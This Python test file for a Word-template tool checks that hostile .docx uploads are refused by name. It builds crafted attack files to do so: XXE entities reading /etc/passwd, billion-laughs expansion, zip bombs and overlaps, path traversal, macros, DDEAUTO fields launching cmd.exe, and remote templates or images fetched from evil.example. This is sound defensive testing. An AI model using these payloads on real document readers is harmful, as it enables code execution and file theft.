"""Word files from outside: what could do harm is refused by name; what is no look reaches no paper."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from docx.oxml.ns import qn
from docx.oxml.parser import parse_xml
from lxml import etree

from briefgen.errors import BriefgenError, Problem, Severity
from briefgen.render.docx.authored import fill
from briefgen.render.docx.authored import problems as form_problems
from briefgen.render.docx.safety import open_word_file, read_word_file
from briefgen.render.reference.checking import problems as reference_problems
from briefgen.render.reference.reading import read
from tests.conftest import Run
from tests.test_authored import DATA, W, members, saved, word
from tests.test_bureaus import bureau_with
from tests.test_reference import THEME, png

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "[Content_Types].xml"
RELS = "word/_rels/document.xml.rels"
DOCUMENT = "wordprocessingml.document.main+xml"
LAUGHS = '<!DOCTYPE a [<!ENTITY b "lol">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(1, 9)
)
KINDS = ("reference", "form")


def sound() -> dict[str, bytes]:
    return members(word("x"))


def packed(parts: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", how) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return made.getvalue()


def holding(parts: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A sound Word file with members added or changed."""
    return packed({**sound(), **parts}, how)


def typed(override: str = "", default: str = "", **replaced: str) -> bytes:
    """The content types with some more, or others."""
    told = sound()[TYPES].decode()
    for old, new in replaced.items():
        told = told.replace(old, new)
    return told.replace("</Types>", f"{default}{override}</Types>").encode()


def related(kind: str, target: str, mode: str = "") -> bytes:
    """The relationships of the document and one more."""
    outside = f' TargetMode="{mode}"' if mode else ""
    one = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{outside}/>'
    return sound()[RELS].replace(b"</Relationships>", f"{one}</Relationships>".encode())


def linked(kind: str, target: str, mode: str = "") -> Callable[[], bytes]:
    return lambda: holding({RELS: related(kind, target, mode)})


def named(name: str) -> Callable[[], bytes]:
    return lambda: holding({name: b"<a/>"})


def with_member(name: str, data: bytes) -> Callable[[], bytes]:
    return lambda: holding({name: data})


def utf16(text: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")


def utf7(text: str) -> bytes:
    hidden = text.replace("<", "+ADw-").replace("!", "+ACE-")
    return f'<?xml version="1.0" encoding="UTF-7"?>{hidden}'.encode()


def twice(name: str) -> bytes:
    made = io.BytesIO(word("x"))
    with zipfile.ZipFile(made, "a") as package:
        package.writestr(name, b"<a/>")
    return made.getvalue()


def local(name: bytes, data: bytes, size: int | None = None, flags: int = 0) -> bytes:
    """A stored member as it stands in a zip, its size as given."""
    told = len(data) if size is None else size
    head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, flags, 0, 0, 33, zlib.crc32(data), told, told, len(name), 0)  # fmt: skip
    return head + name + data


def raw(placed: list[tuple[bytes, bytes, int]], body: bytes, flags: int = 0) -> bytes:
    """A zip of a body and a directory that says where each stored member begins."""
    entries = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, flags, 0, 0, 33, zlib.crc32(data), len(data), len(data),
                    len(name), 0, 0, 0, 0, 0, start) + name
        for name, data, start in placed
    )  # fmt: skip
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(placed), len(placed), len(entries), len(body), 0)  # fmt: skip
    return body + entries + end


def stored(size: int | None = None, flags: int = 0) -> bytes:
    """A sound file whose last member says another size of itself, or bears flags."""
    body, placed = b"", []
    for name, data in {**sound(), "word/z.xml": b"<a/>"}.items():
        last = name == "word/z.xml"
        placed.append((name.encode(), data, len(body)))
        body += local(name.encode(), data, size if last else None, flags)
    return raw(placed, body, flags)


def overlapping() -> bytes:
    """A member that quotes another one, so that the same bytes are unpacked twice."""
    body, placed = b"", []
    for name, data in sound().items():
        placed.append((name.encode(), data, len(body)))
        body += local(name.encode(), data)
    inner = local(b"word/inner.xml", b"<a/>")
    placed.append((b"word/media/outer.bin", inner, len(body)))
    outer = local(b"word/media/outer.bin", inner)
    placed.append((b"word/inner.xml", b"<a/>", len(body) + len(outer) - len(inner)))
    return raw(placed, body + outer)


def other_main() -> bytes:
    root = sound()["_rels/.rels"].replace(b"word/document.xml", b"word/second.xml")
    parts = {"_rels/.rels": root, "word/second.xml": sound()["word/document.xml"],
             TYPES: typed(f'<Override PartName="/word/second.xml" ContentType="application/vnd.openxmlformats-officedocument.{DOCUMENT}"/>')}  # fmt: skip
    return holding(parts)


DOCTYPE = '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'
XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "doctype": (with_member("word/styles.xml", DOCTYPE.encode()), "has a DOCTYPE in word/styles.xml"),
    "xxe": (with_member("word/styles.xml", XXE.encode()), "has a DOCTYPE in word/styles.xml"),
    "laughs": (with_member("word/a.xml", f"{LAUGHS}]><a>&i;</a>".encode()), "has a DOCTYPE in word/a.xml"),
    "laughs-in-attribute": (with_member("word/a.xml", f"{LAUGHS}]><a b='&i;'/>".encode()), "has a DOCTYPE in word/a.xml"),
    "utf16": (with_member("word/a.xml", utf16(XXE)), "has a DOCTYPE in word/a.xml"),
    "utf7": (with_member("word/a.xml", utf7(XXE)), "holds word/a.xml in utf-7, not in UTF-8"),
    "ebcdic": (with_member("word/a.xml", f"<?xml version='1.0' encoding='cp500'?>{XXE}".encode("cp500")), "word/a.xml"),
    "by-type": (lambda: holding({"word/odd.bin": b" \n" * 40 + XXE.encode(), TYPES: typed('<Override PartName="/word/odd.bin" ContentType="application/xml"/>')}), "has a DOCTYPE in word/odd.bin"),
    "by-extension": (lambda: holding({"word/odd.q": b" \n" * 40 + XXE.encode(), TYPES: typed(default='<Default Extension="q" ContentType="text/xml"/>')}), "has a DOCTYPE in word/odd.q"),
    "by-letter": (with_member("word/odd.bin", XXE.encode()), "has a DOCTYPE in word/odd.bin"),
    "by-letter-utf16": (with_member("word/odd.bin", utf16(XXE)), "has a DOCTYPE in word/odd.bin"),
    "not-well-formed": (with_member("word/a.xml", b"<a>"), "holds word/a.xml, which is not well-formed"),
    "deep": (with_member("word/a.xml", b"<a>" * 300 + b"</a>" * 300), "holds word/a.xml, which is not well-formed"),
    "elements": (lambda: holding({"word/a.xml": b"<a>" + b"<a/>" * 2_000_000 + b"</a>"}, zipfile.ZIP_STORED), "holds more than 1 million elements"),
    "attributes": (lambda: holding({"word/a.xml": b"<b>" + b'<a b="" c="" d=""/>' * 520_000 + b"</b>"}, zipfile.ZIP_STORED), "holds more than 1 million elements"),
    "ratio": (with_member("word/media/a.bin", bytes(3_000_000)), "times smaller than it is"),
    "whole": (lambda: holding({f"word/media/{n}.bin": bytes(900_000) for n in range(60)}), "unpacks to 54 MB, more than 50"),
    "members": (lambda: holding({f"word/media/{n}.bin": b"" for n in range(2001)}), "members, more than 2000"),
    "overlap": (overlapping, "holds the member 'word/inner.xml' over another one"),
    "local-size": (lambda: stored(999_999_999), "says two things of the member 'word/z.xml'"),
    "password": (lambda: stored(flags=1), "under a password"),
    "strong-password": (lambda: stored(flags=1 << 6), "under a password"),
    "bzip2": (lambda: holding({}, zipfile.ZIP_BZIP2), "packed in a way that Word does not know"),
    "up": (named("../evil.xml"), "'../evil.xml', a path that leads out of it"),
    "up-inside": (named("word/../../evil.xml"), "a path that leads out of it"),
    "up-coded": (named("word/%2e%2e/%2e%2e/evil.xml"), "a path that leads out of it"),
    "absolute": (named("/etc/evil.xml"), "'/etc/evil.xml', a path that leads out of it"),
    "backslash": (named("word\\evil.xml"), "a path that leads out of it"),
    "drive": (named("C:evil.xml"), "'C:evil.xml', a path that leads out of it"),
    "nul": (lambda: holding({}).replace(b"word/styles.xml", b"word/style\0.xml"), "whose name no file can have"),
    "twice": (lambda: twice("word/styles.xml"), "holds the member 'word/styles.xml' twice"),
    "twice-case": (lambda: twice("WORD/Styles.xml"), "holds the member 'WORD/Styles.xml' twice"),
    "twice-coded": (lambda: twice("word/%73tyles.xml"), "twice"),
    "twice-form": (lambda: holding({"word/\u00e9.xml": b"<a/>", "word/e\u0301.xml": b"<a/>"}), "twice"),
    "truncated": (lambda: word("x")[:-300], "cannot be opened: it is damaged or no Word file"),
    "cut-member": (lambda: word("x").replace(b"PK\3\4", b"PK\3\5", 1), "cannot be opened: it is damaged"),
    "doc": (lambda: b"\xd0\xcf\x11\xe0" + bytes(600), "is an old Word file (.doc) or protected by a password"),
    "docm": (lambda: holding({TYPES: typed(**{f"application/vnd.openxmlformats-officedocument.{DOCUMENT}": "application/vnd.ms-word.document.macroEnabled.main+xml"})}), "holds macros (word/document.xml)"),
    "dotx": (lambda: holding({TYPES: typed(**{"document.main+xml": "template.main+xml"})}), "is a Word template (.dotx)"),
    "xlsx": (lambda: holding({TYPES: typed(**{DOCUMENT: "spreadsheetml.sheet.main+xml"})}), "is no Word document: its type is"),
    "other-main": (other_main, "has its document in 'word/second.xml', not in word/document.xml"),
    "macros": (with_member("word/vbaProject.bin", b"x"), "holds macros (word/vbaProject.bin)"),
    "macros-renamed": (linked("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/a.bin"), "holds macros (media/a.bin)"),
    "ole": (linked(f"{OFFICE}/oleObject", "media/a.bin"), "holds an OLE object (media/a.bin)"),
    "ole-renamed": (with_member("word/media/image9.png", b"\xd0\xcf\x11\xe0" + bytes(99)), "holds an OLE object (word/media/image9.png)"),
    "embedded": (with_member("word/embeddings/a.xlsx", b"x"), "holds an embedded file (word/embeddings/a.xlsx)"),
    "nested": (with_member("word/media/a.bin", packed({"a": b"x"})), "holds an embedded file (word/media/a.bin)"),
    "activex": (linked(f"{OFFICE}/control", "activeX/activeX1.xml"), "holds an ActiveX control"),
    "altchunk": (linked(f"{OFFICE}/aFChunk", "a.html"), "holds an imported document (altChunk)"),
    "subdocument": (linked(f"{OFFICE}/subDocument", "file:///C:/a.docx", "External"), "holds a linked subdocument"),
    "add-in": (linked("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "a.xml"), "holds a web add-in"),
    "ribbon": (linked("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "a.xml"), "holds a ribbon of its own"),
    "toolbars": (linked("http://schemas.microsoft.com/office/2006/relationships/attachedToolbars", "a.bin"), "holds toolbars with macros"),
    "template": (linked(f"{OFFICE}/attachedTemplate", "https://evil.example/a.dotm", "External"), "loads 'https://evil.example/a.dotm' by itself when it is opened (attachedTemplate)"),
    "template-share": (linked(f"{OFFICE}/attachedTemplate", r"\\evil\a.dotm", "External"), "by itself when it is opened (attachedTemplate)"),
    "template-host": (linked(f"{OFFICE}/attachedTemplate", "file://evil/a.dotm", "External"), "by itself when it is opened (attachedTemplate)"),
    "template-coded": (linked(f"{OFFICE}/attachedTemplate", "file:///%5c%5cevil/a.dotm", "External"), "by itself when it is opened (attachedTemplate)"),
    "image": (linked(f"{OFFICE}/image", "http://evil.example/a.png", "External"), "loads 'http://evil.example/a.png' by itself when it is opened (image)"),
    "frame": (linked(f"{OFFICE}/frame", "http://evil.example/", "External"), "by itself when it is opened (frame)"),
    "mode": (linked(f"{OFFICE}/image", "http://evil.example/a.png", "external"), "holds a link of the kind 'external'"),
}  # fmt: skip


def told(kind: str, content: bytes) -> list[Problem]:
    """The errors of a check, which are also what stops a paper."""
    if kind == "form":
        found = form_problems("brief.docx", content, DATA)
        with pytest.raises(BriefgenError) as caught:
            fill("brief.docx", content, DATA)
    else:
        found = reference_problems("reference.docx", content, THEME)
        with pytest.raises(BriefgenError) as caught:
            read("reference.docx", content)
    errors = [p for p in found if p.severity is Severity.ERROR]
    assert [p.message for p in errors if p in caught.value.problems]
    return errors


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_word_file_is_refused_by_name(kind: str, case: str) -> None:
    make, message = HOSTILE[case]
    errors = told(kind, make())
    assert any(message in p.message for p in errors), errors
    assert all(p.hint and p.source.path in ("reference.docx", "brief.docx") for p in errors)


@pytest.mark.parametrize("make", [lambda: packed(sound()), stored], ids=["packed", "stored"])
def test_a_sound_file_is_not_refused(make: Callable[[], bytes]) -> None:
    assert form_problems("brief.docx", make(), DATA) == []
    found = reference_problems("reference.docx", make(), THEME)
    assert {p.severity for p in found} <= {Severity.WARNING}


def test_the_template_on_its_makers_own_disk_is_left_out_and_not_refused() -> None:
    for target in ("file:///C:/Users/x/Normal.dotm", "Normal.dotm", "file:///C:%5CNormal.dotm"):
        content = linked(f"{OFFICE}/attachedTemplate", target, "External")()
        made = fill("brief.docx", content, DATA)
        assert b"ormal.dotm" not in b"".join(members(made).values())
        (warned,) = [p for p in reference_problems("r.docx", content, THEME)
                     if "leads outside" in p.message]  # fmt: skip
        assert target in warned.message


def test_a_file_that_is_too_large_is_not_even_read(tmp_path: Path) -> None:
    path = tmp_path / "reference.docx"
    path.touch()
    os.truncate(path, 20_000_000_000)
    with pytest.raises(BriefgenError, match=r"reference.docx: is larger than 50 MB"):
        read_word_file(path, "reference.docx")


def test_bytes_that_are_too_many_are_not_opened() -> None:
    with pytest.raises(BriefgenError, match="is larger than 50 MB"):
        open_word_file("a.docx", word("x") + bytes(50_000_000))


def test_a_member_that_packs_more_than_it_says_is_not_unpacked_further() -> None:
    content = holding({"word/media/a.bin": bytes(40_000_000)})
    lying = content.replace(struct.pack("<I", 40_000_000), struct.pack("<I", 900_000))
    assert lying != content
    with pytest.raises(BriefgenError, match="cannot be opened: it is damaged"):
        open_word_file("a.docx", lying)


# -- fields and parts ------------------------------------------------------------------------------


def paragraph(inner: str) -> bytes:
    document = Document(io.BytesIO(word("x")))
    document.paragraphs[0]._p.addnext(parse_xml(f"<w:p xmlns:w='{W}'>{inner}</w:p>"))
    return saved(document)


def field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{k}"/></w:r>' for k in ("begin", "end"))
    return f"{begin}{runs}{end}"


FETCHING = {
    "INCLUDETEXT": 'INCLUDETEXT "http://evil.example/a.docx"',
    "INCLUDEPICTURE": 'INCLUDEPICTURE "http://evil.example/a.png" \\d',
    "DDE": "DDE cmd a",
    "DDEAUTO": "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe a",
    "LINK": "LINK Excel.Sheet.8 a.xls",
    "IMPORT": "IMPORT a.png",
    "DATABASE": "DATABASE \\d a",
    "AUTHOR": "AUTHOR",
    "TOCX": "TOCX",
}


@pytest.mark.parametrize("name", FETCHING)
def test_a_field_that_fetches_is_refused_in_a_form_however_it_is_written(name: str) -> None:
    code = FETCHING[name].replace('"', "&quot;")
    for inner in (
        field(code), field(name[:2], code[2:]), f"<w:fldSimple w:instr=' {code} '/>",
        field(" IF 1 = 1 ") + field(code),
    ):  # fmt: skip
        assert any(f"holds the field '{name}'" in p.message for p in told("form", paragraph(inner)))


@pytest.mark.parametrize("name", FETCHING)
def test_a_field_that_fetches_is_dropped_from_a_reference_and_told(name: str) -> None:
    code = FETCHING[name].replace('"', "&quot;")
    document = Document(io.BytesIO(word("x")))
    head = document.sections[0].header.paragraphs[0]._p
    for child in parse_xml(
        f"<w:p xmlns:w='{W}'>{field(code)}<w:fldSimple w:instr='{code}'/></w:p>"
    ):
        head.append(child)
    found = read("reference.docx", saved(document))
    assert any(f"holds the field {name}" in p.message for p in found.problems)
    (part,) = found.parts.values()
    assert not any(block.findall(f".//{qn('w:instrText')}") for block in part.blocks)


def test_a_field_that_comes_about_only_when_the_form_is_filled_is_refused() -> None:
    inner = field(" SEQ ", " INCLUDETEXT a ").replace(
        "<w:r><w:instrText> SEQ ", "<w:r><w:t>{%r if false %}</w:t></w:r><w:r><w:instrText> SEQ "
    ).replace(" SEQ </w:instrText></w:r>", " SEQ </w:instrText></w:r><w:r><w:t>{%r endif %}</w:t></w:r>")  # fmt: skip
    with pytest.raises(BriefgenError, match="holds the field 'INCLUDETEXT'"):
        fill("brief.docx", paragraph(inner), DATA)


def test_a_field_may_link_to_the_web_alone() -> None:
    for address in ("file:///srv/x", r"\\host\share", "http://evil.example"):
        (refused,) = told("form", paragraph(field(f"HYPERLINK &quot;{address}&quot;")))
        assert refused.message.startswith("links to '")
    for code in ("HYPERLINK &quot;https://example.org&quot;", "HYPERLINK \\l place", "PAGE", "= 1"):
        assert form_problems("brief.docx", paragraph(field(code)), DATA) == []


@pytest.mark.parametrize(
    ("changed", "message"),
    [
        ({RELS: related(f"{OFFICE}/image", "odd.xml"), "word/odd.xml": b"<a/>"}, "has 'application/xml' as its image"),
        ({RELS: related(f"{OFFICE}/styles", "styles.xml")}, "has its styles twice"),
        ({RELS: related(f"{OFFICE}/settings", "a.xml", "External")}, "has its settings twice, or outside of it"),
    ],
)  # fmt: skip
def test_a_form_is_made_of_what_it_says_that_it_is(changed: dict[str, bytes], message: str) -> None:
    assert any(message in p.message for p in told("form", holding(changed)))


@pytest.mark.parametrize(
    ("inner", "message"),
    [
        ("<w:tbl><w:tblPr><w:tblPrChange w:id='1' w:author='a'/></w:tblPr><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>", "tracked change of a table"),
        ("<w:p><w:r><w:rPr><w:rStyle w:val='Sly'/></w:rPr><w:t>secret</w:t></w:r></w:p>", "holds hidden words: 'secret'"),
        ("<w:p><w:pPr><w:pStyle w:val='Slyer'/></w:pPr><w:r><w:t>secret</w:t></w:r></w:p>", "holds hidden words: 'secret'"),
    ],
)  # fmt: skip
def test_what_a_form_hides_by_style_or_keeps_of_its_changes_is_refused(
    inner: str, message: str
) -> None:
    document = Document(io.BytesIO(word("x")))
    add_hiding_styles(document)
    for child in parse_xml(f"<w:body xmlns:w='{W}'>{inner}</w:body>"):
        document.paragraphs[0]._p.addnext(child)
    assert any(message in p.message for p in told("form", saved(document)))


def add_hiding_styles(document: Any) -> None:
    for id_, kind, more in (
        ("Sly", "character", "<w:rPr><w:vanish/></w:rPr>"),
        ("Sly0", "paragraph", "<w:rPr><w:vanish/></w:rPr>"),
        ("Slyer", "paragraph", "<w:basedOn w:val='Sly0'/>"),
    ):
        document.styles.element.append(parse_xml(
            f"<w:style xmlns:w='{W}' w:type='{kind}' w:styleId='{id_}'><w:name w:val='{id_}'/>{more}</w:style>"
        ))  # fmt: skip


def test_words_that_a_style_hides_in_a_reference_stay_hidden() -> None:
    document = Document(io.BytesIO(word("x")))
    add_hiding_styles(document)
    document.sections[0].header.paragraphs[0]._p.append(parse_xml(
        f"<w:r xmlns:w='{W}'><w:rPr><w:rStyle w:val='Sly'/></w:rPr><w:t>secret</w:t></w:r>"
    ))  # fmt: skip
    found = read("reference.docx", saved(document))
    assert any("holds hidden text" in p.message for p in found.problems)
    words = [
        t.text for part in found.parts.values() for b in part.blocks for t in b.iter(qn("w:t"))
    ]
    assert "secret" not in words


# -- case 22: of the maker nothing -----------------------------------------------------------------

CANARY = "Kanarienvogel"


def part_of(root: str, inner: str = "") -> bytes:
    return f"<w:{root} xmlns:w='{W}'>{inner}</w:{root}>".encode()


def haunted() -> bytes:
    """A Word file with a canary wherever Word keeps what its maker did not mean to print."""
    document = Document(io.BytesIO(word("{{ country.code }}")))
    properties = document.core_properties
    for name in ("author", "title", "subject", "keywords", "comments", "category", "last_modified_by",
                 "content_status", "identifier", "version"):  # fmt: skip
        setattr(properties, name, CANARY)
    document.add_comment(
        document.paragraphs[0].runs[0], text=CANARY, author=CANARY, initials=CANARY
    )
    head = document.sections[0].header.paragraphs[0]
    head.add_run().add_picture(io.BytesIO(png(text=CANARY.encode())))
    for frame in head._p.iter(qn("wp:docPr"), qn("pic:cNvPr")):
        frame.set("name", f"{CANARY}.png")
        frame.set("title", CANARY)
        frame.set("descr", f"C:\\{CANARY}\\a.png")
    for root in (head._p, document.paragraphs[0]._p):
        root.set(qn("w:rsidR"), CANARY)
        root.set("{http://schemas.microsoft.com/office/word/2010/wordml}paraId", CANARY)
    document.paragraphs[0]._p.append(parse_xml(
        f"<w:sdt xmlns:w='{W}'><w:sdtPr><w:alias w:val='{CANARY}'/><w:tag w:val='{CANARY}'/>"
        f"<w:dataBinding w:xpath='{CANARY}' w:storeItemID='x'/></w:sdtPr><w:sdtContent><w:r><w:t>y</w:t></w:r>"
        "</w:sdtContent></w:sdt>"
    ))  # fmt: skip
    for setting in (
        f"<w:docVars xmlns:w='{W}'><w:docVar w:name='{CANARY}' w:val='{CANARY}'/></w:docVars>",
        f"<w:rsids xmlns:w='{W}'><w:rsid w:val='{CANARY}'/></w:rsids>",
        f"<w:mailMerge xmlns:w='{W}'><w:query w:val='{CANARY}'/></w:mailMerge>",
        f"<w:writeProtection xmlns:w='{W}' w:hash='{CANARY}'/>",
        f"<w:someDay xmlns:w='{W}' w:val='{CANARY}'/>",
    ):
        document.settings.element.append(parse_xml(setting))
    document.styles["Heading 1"].element.insert(
        1, parse_xml(f"<w:aliases xmlns:w='{W}' w:val='{CANARY}'/>")
    )
    return with_hidden_parts(members(saved(document)))


def with_hidden_parts(parts: dict[str, bytes]) -> bytes:
    """Parts that no page shows, each with a canary and joined to the document."""
    said = f"<w:p><w:r><w:t>{CANARY}</w:t></w:r></w:p>"
    made = {
        "footnotes": (
            "footnotes",
            part_of("footnotes", f"<w:footnote w:id='7'>{said}</w:footnote>"),
        ),
        "endnotes": ("endnotes", part_of("endnotes", f"<w:endnote w:id='7'>{said}</w:endnote>")),
        "header9": ("header", part_of("hdr", said)),
        "glossary/document": ("glossaryDocument", part_of("glossaryDocument", said)),
        "people": ("people", part_of("people", said)),
        "webSettings": ("webSettings", part_of("webSettings", said)),
        "printerSettings1": ("printerSettings", part_of("a", said)),
    }
    links, types = "", ""
    for number, (name, (kind, content)) in enumerate(made.items()):
        parts[f"word/{name}.xml"] = content
        links += f'<Relationship Id="rIdH{number}" Type="{OFFICE}/{kind}" Target="{name}.xml"/>'
        types += f'<Override PartName="/word/{name}.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml"/>'
    parts["word/media/image99.png"] = png(text=CANARY.encode())
    links += f'<Relationship Id="rIdI" Type="{OFFICE}/image" Target="media/image99.png"/>'
    links += f'<Relationship Id="rIdL" Type="{OFFICE}/hyperlink" Target="https://{CANARY}.example" TargetMode="External"/>'
    links += f'<Relationship Id="rIdT" Type="{OFFICE}/attachedTemplate" Target="file:///C:/{CANARY}.dotm" TargetMode="External"/>'
    parts["customXml/item1.xml"] = f"<a>{CANARY}</a>".encode()
    links += f'<Relationship Id="rIdC" Type="{OFFICE}/customXml" Target="../customXml/item1.xml"/>'
    parts["docProps/app.xml"] = (
        f"<Properties><Company>{CANARY}</Company><Template>{CANARY}.dotm</Template></Properties>".encode()
    )
    parts["docProps/custom.xml"] = f"<Properties>{CANARY}</Properties>".encode()
    parts["docProps/thumbnail.jpeg"] = b"\xff\xd8\xff" + CANARY.encode()
    theme = parts["word/theme/theme1.xml"].replace(b'name="Office', f'name="{CANARY}'.encode())
    parts["word/theme/theme1.xml"] = theme.replace(
        b"</a:theme>", f"<a:extLst><a:ext uri='{CANARY}'/></a:extLst></a:theme>".encode()
    )
    parts[RELS] = parts[RELS].replace(b"</Relationships>", f"{links}</Relationships>".encode())
    parts[TYPES] = parts[TYPES].replace(b"</Types>", f"{types}</Types>".encode())
    return packed(parts)  # fmt: skip


def canaries_in(content: bytes) -> list[str]:
    """The members of a file in whose name or bytes, also in UTF-16, the canary sits."""
    sought = [CANARY.encode(), CANARY.encode("utf-16-le"), CANARY.encode("utf-16-be")]
    return [
        n for n, data in members(content).items() if CANARY in n or any(s in data for s in sought)
    ]


def test_nothing_of_a_forms_maker_is_in_any_byte_of_the_paper() -> None:
    content = haunted()
    assert len(canaries_in(content)) >= 17
    made = fill("brief.docx", content, DATA)
    assert canaries_in(made) == []
    assert b"rsid" not in b"".join(members(made).values())
    assert set(members(made)) <= {
        TYPES, "_rels/.rels", "docProps/app.xml", "docProps/core.xml", RELS, "word/document.xml",
        "word/styles.xml", "word/settings.xml", "word/numbering.xml", "word/fontTable.xml",
        "word/theme/theme1.xml", "word/header1.xml", "word/_rels/header1.xml.rels", "word/media/image1.png",
        "word/footnotes.xml", "word/endnotes.xml",
    }  # fmt: skip
    Document(io.BytesIO(made))


def test_nothing_of_a_references_maker_is_in_any_byte_of_what_is_taken() -> None:
    found = read("reference.docx", haunted())
    taken = [
        *found.styles.values(),
        found.defaults,
        *(b for p in found.parts.values() for b in p.blocks),
    ]
    told = b"".join(etree.tostring(element) for element in taken) + (found.theme or b"")
    told += b"".join(p.content for part in found.parts.values() for p in part.pictures.values())
    assert CANARY.encode() not in told
    assert b"rsid" not in told


# -- through the command line ----------------------------------------------------------------------


@pytest.mark.parametrize("name", ["reference.docx", "brief.docx"])
def test_no_paper_is_made_with_a_hostile_word_file(
    workspace: Path, briefgen: Run, tmp_path: Path, name: str
) -> None:
    make, message = HOSTILE["template"]
    bureau_with(workspace, "own", {name: make()})
    done = briefgen("--workspace", str(workspace), "brief", "China", "-b", "own", "--as-of", "2003-08-13", "-o", str(tmp_path / "out"))  # fmt: skip
    assert done.returncode == 1
    assert f"templates/own/{name}: {message}" in done.stderr
    assert "Traceback" not in done.stderr
    assert not list((tmp_path / "out").glob("*.docx"))


def test_check_tells_of_every_hostile_word_file_of_a_bureau(workspace: Path, briefgen: Run) -> None:
    files: dict[str, str | bytes] = {
        "reference.docx": HOSTILE["utf16"][0](),
        "brief.docx": HOSTILE["overlap"][0](),
        "reference.docm": b"x",
    }
    folder = bureau_with(workspace, "own", files)
    os.mkfifo(folder / "reference-history.docx")
    (folder / "reference-brief.docx").symlink_to("/etc/passwd")
    done = briefgen("--workspace", str(workspace), "bureau", "check", "own")
    assert done.returncode == 1
    for line in (
        f"templates/own/reference.docx: {HOSTILE['utf16'][1]}",
        f"templates/own/brief.docx: {HOSTILE['overlap'][1]}",
        "templates/own/reference.docm: is a .docm file, not taken (save it in Word as Word document: reference.docx)",
        "templates/own/reference-history.docx: is no file",
        "templates/own/reference-brief.docx: is a link, which is not followed",
    ):
        assert line in done.stdout, line
    assert "Traceback" not in done.stderr


# -- case 23: what a reference lacks ---------------------------------------------------------------


def test_a_style_that_a_reference_lacks_is_ours_and_that_is_told(
    workspace: Path, briefgen: Run, tmp_path: Path
) -> None:
    document = Document(io.BytesIO(word("x")))
    for style in list(document.styles.element.iter(qn("w:style"))):
        if (style.find(qn("w:name")).get(qn("w:val")) or "").casefold() in (
            "heading 1",
            "list number",
        ):
            document.styles.element.remove(style)
    bureau_with(workspace, "own", {"reference.docx": saved(document)})
    (warned,) = [p for p in reference_problems("reference.docx", saved(document), THEME)
                 if p.subject == "styles"]  # fmt: skip
    assert warned.severity is Severity.WARNING
    assert "heading 1" in warned.message.casefold()
    assert "list number" in warned.message.casefold()
    done = briefgen("--workspace", str(workspace), "brief", "China", "-b", "own", "--as-of", "2003-08-13", "-o", str(tmp_path / "out"))  # fmt: skip
    assert done.returncode == 0, done.stderr
    (path,) = (tmp_path / "out").glob("*.docx")
    styles = Document(str(path)).styles
    assert styles["Heading 1"].font.size is not None
    assert styles["List Number"].paragraph_format is not None
